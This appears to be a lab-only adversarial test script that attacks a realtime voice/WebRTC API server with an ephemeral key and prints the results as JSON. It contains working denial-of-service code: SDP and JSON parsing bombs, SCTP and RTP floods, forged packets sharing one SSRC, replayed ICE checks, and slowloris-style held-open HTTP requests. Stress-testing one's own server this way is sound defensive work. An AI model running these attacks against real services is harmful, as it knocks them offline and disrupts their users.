"""A caller who means harm and holds no more than a browser does, an ephemeral key: ``python hostile.py URL TOKEN_FILE
SECONDS ATTACK [ATTACK ...]``. Makes the key by the API key of the file, then does each attack for so long, one after
the other, and prints as JSON what came of it. Bounded in time and number, and meant for hosts of the lab only."""

from __future__ import annotations

import asyncio
import json
import secrets
import socket
import struct
import sys
import time
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import AsyncExitStack, asynccontextmanager, suppress
from pathlib import Path
from typing import Any

import aiohttp

from caller.call import Call, Line
from caller.offer import Offer
from caller.result import CallError
from caller.signaling import Token
from caller.voice import generated
from rtc.dtls.secure import Certificate
from rtc.ice.controlling import Controlling, Credentials
from rtc.pacer import Pacer
from rtc.rtp import packet as rtp
from wire import stun

SDP = "application/sdp"


class Hostile:
    """The parts that the attacks share: HTTP with the ephemeral key, ``until`` when they go on, and what they
    ``saw``."""

    def __init__(self, http: aiohttp.ClientSession, url: str, key: str, seconds: float) -> None:
        self.http, self.url, self.key = http, url, key
        self.headers = {"Authorization": f"Bearer {key}"}
        self.until = time.monotonic() + seconds
        self.saw: Counter[str] = Counter()
        self._certificate = Certificate.generateCertificate()

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    def offer(self) -> str:
        return Offer(self._certificate.fingerprint).sdp()

    async def place(self, sdp: str) -> str | None:
        """Places a call. Returns its Location, or None; the status is counted."""
        headers = {**self.headers, "Content-Type": SDP}
        async with self.http.post(f"{self.url}/v1/realtime/calls", data=sdp, headers=headers) as response:
            self.saw[str(response.status)] += 1
            await response.read()
            return response.headers.get("Location")

    @asynccontextmanager
    async def call(self) -> AsyncIterator[Call]:
        """Places a call of the attacker's own, and waits until it is up, with its channel."""
        line = Line(self.http, f"{self.url}/v1/realtime/calls", Token(self.key, "key"), generated(), Pacer())
        call = Call(line)
        try:
            await call.set_up()
            assert call.media is not None
            while call.media.session_created_at is None:  # noqa: ASYNC110 - the caller has no event for it
                await asyncio.sleep(0.02)
            yield call
        finally:
            with suppress(CallError):
                await call.hang_up()

    @asynccontextmanager
    async def websocket(self) -> AsyncIterator[aiohttp.ClientWebSocketResponse]:
        async with self.http.ws_connect(f"{self.url}/v1/realtime", headers=self.headers, max_msg_size=0) as opened:
            reading = asyncio.create_task(self._read(opened))
            yield opened
            reading.cancel()

    async def _read(self, opened: aiohttp.ClientWebSocketResponse) -> None:
        async for message in opened:
            if message.type == aiohttp.WSMsgType.TEXT:
                self.saw[json.loads(message.data)["type"]] += 1


async def sdp_bomb(it: Hostile) -> None:
    """Sends offers whose reading once took the square of their length."""
    repeated = "".join(f"a=rtpmap:{96 + i % 30} x{i}/48000\r\n" for i in range(1500))
    repeated += "".join(f"a=rtcp-fb:* x{i}\r\n" for i in range(1500))
    bombs = [
        it.offer() + repeated[:58_000],
        it.offer() + "m=audio 9 UDP/TLS/RTP/SAVPF 0\r\n" * 1700,
        it.offer() + "a=ssrc:1 cname:x\r\n" * 3300,
        it.offer() + "a=group:BUNDLE" + " 0" * 28_000 + "\r\n",
        it.offer() + "a=fingerprint:sha-256 " + ":".join(["AB"] * 19_000) + "\r\n",
        it.offer() + "a=x\n" * 14_000,
    ]
    while it.goes_on:
        for bomb in bombs:
            if location := await it.place(bomb):
                await it.http.delete(it.url + location, headers=it.headers)


async def event_bombs(it: Hostile) -> None:
    """Sends events that are large, deep, wide, or grow what is kept."""
    deep = '{"type":"session.update","session":{"tools":' + "[" * 900 + "]" * 900 + "}}"
    wide = '{"type":"session.update","session":{"include":[' + ",".join(["1"] * 500_000) + "]}}"
    instructions = {"type": "realtime", "instructions": "x" * 1_200_000}
    item = {"type": "message", "role": "user", "id": "big", "content": [{"type": "input_text", "text": "y" * 900_000}]}
    events = [
        json.dumps({"type": "session.update", "session": instructions}),
        deep,
        wide,
        json.dumps({"type": "conversation.item.create", "item": item}),
        *[json.dumps({"type": "conversation.item.retrieve", "item_id": "big"})] * 200,
        *[json.dumps({"type": "session.update", "session": {"type": "realtime"}})] * 200,
        json.dumps({"type": "response.create", "response": {"metadata": {"n": float("nan")}}}),
        json.dumps({"type": "input_audio_buffer.append", "audio": "AAAA" * 1_000_000}),
    ]
    while it.goes_on:
        with suppress(ConnectionError, aiohttp.ClientError):
            async with it.websocket() as socket_:
                for event in events:
                    if not it.goes_on or socket_.closed:
                        break
                    await socket_.send_str(event)
                await asyncio.sleep(0.2)


async def channel_bombs(it: Hostile) -> None:
    """Sends the same by the data channel, in messages as large as browsers send."""
    events: list[Any] = [
        {"type": "session.update", "session": {"type": "realtime", "instructions": "x" * 250_000}},
        {"type": "session.update", "session": {"type": "realtime", "include": ["i"] * 60_000}},
        *[{"type": "session.update", "session": {"type": "realtime"}}] * 100,
    ]
    while it.goes_on:
        async with it.call() as call:
            assert call.media is not None
            for event in events:
                if it.goes_on:
                    call.media.send_event(event)
                    await asyncio.sleep(0.01)
            await asyncio.sleep(0.2)
            it.saw["calls"] += 1
            it.saw.update(str(event["type"]) for event in call.media.events)


async def sctp_storm(it: Hostile) -> None:
    """Sends one-byte DATA chunks behind a TSN that never comes, and opens every channel there could be."""
    async with it.call() as call:
        assert call.media is not None
        sctp = call.media._secure.sctp
        assert sctp is not None
        tsn, stream = sctp._local_tsn + 2, 0
        while it.goes_on and not call.media.ended.is_set():
            for _ in range(20):
                chunks = b""
                for _ in range(50):
                    tsn, stream = (tsn + 1) & 0xFFFFFFFF, (stream + 1) & 0xFFFF
                    chunks += struct.pack("!BBHIHHIB3x", 0, 0, 17, tsn, stream, 0, 51, 1)
                header = struct.pack("!HHI", 5000, 5000, sctp._remote_verification_tag)
                checksum = struct.pack("<I", _crc32c(header + bytes(4) + chunks))
                with suppress(ConnectionError):
                    await sctp.transport._send_data(header + checksum + chunks)
                it.saw["packets"] += 1
            await asyncio.sleep(0.1)


async def half_open(it: Hostile) -> None:
    """Places calls to which nobody comes."""
    while it.goes_on:
        await asyncio.gather(*(it.place(it.offer()) for _ in range(20)))


async def one_ssrc(it: Hostile) -> None:
    """Places calls that all say the same SSRC, and sends media with it that is not encrypted for any of them."""
    ssrc = secrets.randbits(31) | 1
    offer = Offer(it._certificate.fingerprint)
    sdp = offer.sdp().replace(str(offer.ssrc), str(ssrc))
    async with it.call() as call:
        assert call.media is not None
        await asyncio.gather(*(it.place(sdp) for _ in range(60)))
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as forger:
            forger.setblocking(False)
            sequence = 0
            while it.goes_on:
                for _ in range(50):
                    sequence += 1
                    for known in (ssrc, call.media.ssrc):
                        packet = rtp.build(
                            111, False, sequence & 0xFFFF, 960 * sequence & 0xFFFFFFFF, known, bytes(160)
                        )
                        with suppress(BlockingIOError):
                            forger.sendto(packet, call.media.server)
                        it.saw["forged"] += 1
                await asyncio.sleep(0.01)


async def replayed_checks(it: Hostile) -> None:
    """Sends a valid check of its own call again and again from ever new addresses, and as many new ones."""
    async with it.call() as call:
        assert call.media is not None
        answer = call.media._answer
        ours = call.media._offer
        ice = Controlling(Credentials(ours.ufrag, ours.password, answer.ufrag, answer.password))
        check, _ = ice.poll(time.monotonic())
        assert check is not None
        username = f"{answer.ufrag}:{call.media._offer.ufrag}".encode()
        while it.goes_on:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as elsewhere:
                elsewhere.setblocking(False)
                for _ in range(100):
                    fresh = stun.binding_request(username, answer.password.encode(), tie_breaker=1, nominate=True)
                    for datagram in (check, fresh):
                        with suppress(BlockingIOError):
                            elsewhere.sendto(datagram, answer.address)
                        it.saw["checks"] += 1
            await asyncio.sleep(0.02)


async def restarts(it: Hostile) -> None:
    """Restarts ICE as fast as it is answered."""
    headers = {**it.headers, "Content-Type": SDP}
    async with it.http.post(f"{it.url}/whip/parrot", data=it.offer(), headers=headers) as response:
        if response.status != 201:
            it.saw[str(response.status)] += 1
            return
        where = it.url + response.headers["Location"]
    headers = {**it.headers, "Content-Type": "application/trickle-ice-sdpfrag", "If-Match": "*"}
    while it.goes_on:
        body = f"a=ice-ufrag:{secrets.token_hex(4)}\r\na=ice-pwd:{secrets.token_hex(12)}\r\n"
        async with it.http.patch(where, data=body, headers=headers) as response:
            it.saw[str(response.status)] += 1


async def half_requests(it: Hostile) -> None:
    """Sends requests that never end, with as many headers as are taken."""
    host, _, port = it.url.removeprefix("http://").partition(":")
    async with AsyncExitStack() as open_:
        for _ in range(300):
            if not it.goes_on:
                break
            try:
                async with asyncio.timeout(1):
                    _, writer = await asyncio.open_connection(host, int(port))
            except (OSError, TimeoutError):
                it.saw["refused"] += 1
                continue
            open_.callback(writer.close)
            writer.write(b"POST /v1/realtime/calls HTTP/1.1\r\nHost: x\r\n")
            for i in range(200):
                writer.write(f"X-{i}: {'y' * 1000}\r\n".encode())
            it.saw["opened"] += 1
            await asyncio.sleep(0.005)
        await asyncio.sleep(max(0.0, it.until - time.monotonic()))


def _crc32c(data: bytes) -> int:
    from google_crc32c import value

    return int(value(data))


ATTACKS: dict[str, Callable[[Hostile], Awaitable[None]]] = {
    attack.__name__: attack
    for attack in (
        sdp_bomb,
        event_bombs,
        channel_bombs,
        sctp_storm,
        half_open,
        one_ssrc,
        replayed_checks,
        restarts,
        half_requests,
    )
}


async def ephemeral_key(http: aiohttp.ClientSession, url: str, token: str) -> str:
    headers = {"Authorization": f"Bearer {token}"}
    wish = {"session": {"type": "realtime", "model": "parrot"}}
    async with http.post(f"{url}/v1/realtime/client_secrets", json=wish, headers=headers) as response:
        return str((await response.json())["value"])


async def main(url: str, token_file: Path, seconds: float, attacks: list[str]) -> None:
    said: dict[str, Any] = {}
    async with aiohttp.ClientSession() as http:
        for name in attacks or ATTACKS:
            it = Hostile(http, url, await ephemeral_key(http, url, token_file.read_text().strip()), seconds)
            try:
                await ATTACKS[name](it)
            except CallError as e:
                it.saw[f"no call: {e}"] += 1
            said[name] = dict(it.saw)
    print(json.dumps(said))


asyncio.run(main(sys.argv[1], Path(sys.argv[2]), float(sys.argv[3]), sys.argv[4:]))
